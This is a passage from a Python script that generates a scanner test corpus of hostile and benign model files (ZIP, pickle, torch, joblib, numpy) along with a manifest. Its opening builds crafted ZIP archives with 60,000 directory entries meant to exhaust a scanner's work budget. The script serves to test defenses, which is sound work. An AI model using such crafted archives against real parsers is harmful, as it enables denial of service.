    local + cd + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, entries, entries, len(cd), len(local), 0),
    "hostile-zip-shared-budget", [],
    "60,000 directory entries pointing at one protocol 0 member: each a trial walk", expect=["error", "safe"],
    max_seconds=5)
# The same, but each entry a different prefix of the member (nothing to
# deduplicate): only one work budget for the whole file stops it.
cd = b"".join(cd1[:20] + struct.pack("<II", len(member) - i, len(member) - i) + struct.pack("<H", 5) + cd1[30:46]
              + b"%05d" % i for i in range(entries))
put("hostile_60k_slices.zip",
    local + cd + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, entries, entries, len(cd), len(local), 0),
    "hostile-zip-shared-budget", [],
    "60,000 directory entries, each a different prefix of one 800 KB protocol 0 member", expect=["error"],
    max_seconds=5)

# ---- benign files from the real libraries ------------------------------------
corpus = os.path.join(out, "corpus")
subprocess.run([sys.executable, os.path.join(HERE, "..", "unit", "scanner", "make_corpus.py"), corpus], check=True)
benign = {
    "torch_benign.pt": ["torch"], "torch_benign_legacy.pt": ["torch"], "torch_legacy.tar": [],
    "float.npy": ["numpy"], "record.npy": ["numpy"], "object_benign.npy": ["numpy"],
    "plain.npz": ["numpy"], "compressed.npz": ["numpy"],
    "model.joblib": ["joblib"], "model_zlib.joblib": ["joblib"], "model_gzip.joblib": ["joblib"],
    "objarray.joblib": ["joblib"], "good.safetensors": [], "model.gguf": [], "model.onnx": [],
    "model_bz2.joblib": ["joblib"], "model_lzma.joblib": ["joblib"], "model_xz.joblib": ["joblib"],
    "memo_benign.pkl": ["pickle"], "nested_benign.tar": [],
}
benign.update({f"benign_p{p}.pkl": ["pickle", "joblib", "numpy"] for p in range(6)})
for name, loaders in sorted(benign.items()):
    manifest.append(dict(file="corpus/" + name, technique="benign", loaders=loaders, expect=["safe"],
                         why="made by the real library (tests/unit/scanner/make_corpus.py)"))


def benign_file(name, loaders, why, write):
    write(os.path.join(out, name))
    manifest.append(dict(file=name, technique="benign", loaders=loaders, expect=["safe"], why=why))


# Real files at the sizes and shapes that strain a scanner's budgets: a fix
# that makes hostile files fail fast must still pass these.
import joblib  # noqa: E402

many = {f"layer{i}.weight": torch.full((2, 2), float(i)) for i in range(3000)}
benign_file("torch_3000_tensors.pt", ["torch"], "torch.save of 3000 tensors (zip)", lambda p: torch.save(many, p))
benign_file("torch_3000_tensors_legacy.pt", ["torch"], "torch.save of 3000 tensors (legacy)",
            lambda p: torch.save(many, p, _use_new_zipfile_serialization=False))
benign_file("torch_protocol4.pt", ["torch"], "torch.save with pickle_protocol=4 (framed data.pkl)",
            lambda p: torch.save(sd, p, pickle_protocol=4))
benign_file("torch_with_numpy.pt", ["torch"], "torch.save of a dict holding numpy arrays",
            lambda p: torch.save({"sd": sd, "np": np.arange(5.0), "i": np.int64(3)}, p))
big = {"coef": np.linspace(0, 1, 2_000_000), "idx": np.arange(100_000, dtype=np.int32),
       "names": np.array(["a", "bc"] * 1000), "obj": np.array([{"k": 1}, (2, 3)], dtype=object)}
benign_file("joblib_16MB.joblib", ["joblib"], "joblib.dump of 16 MB of arrays and an object array",
            lambda p: joblib.dump(big, p))
benign_file("joblib_16MB_zlib.joblib", ["joblib"], "joblib.dump compress=3 of the same",
            lambda p: joblib.dump(big, p, compress=3))
benign_file("joblib_protocol2.joblib", ["joblib"], "joblib.dump protocol=2",
            lambda p: joblib.dump(big, p, protocol=2))
benign_file("npz_300_members.npz", ["numpy"], "numpy.savez of 300 arrays",
            lambda p: np.savez(p, **{f"a{i}": np.arange(i, dtype=np.int16) for i in range(300)}))
benign_file("npz_objects_compressed.npz", ["numpy"], "numpy.savez_compressed with a benign object array",
            lambda p: np.savez_compressed(p, o=np.array([1, "x", (2,)], dtype=object), f=np.ones(1000)))

with open(os.path.join(out, "manifest.json"), "w") as f:
    json.dump(manifest, f, indent=1)
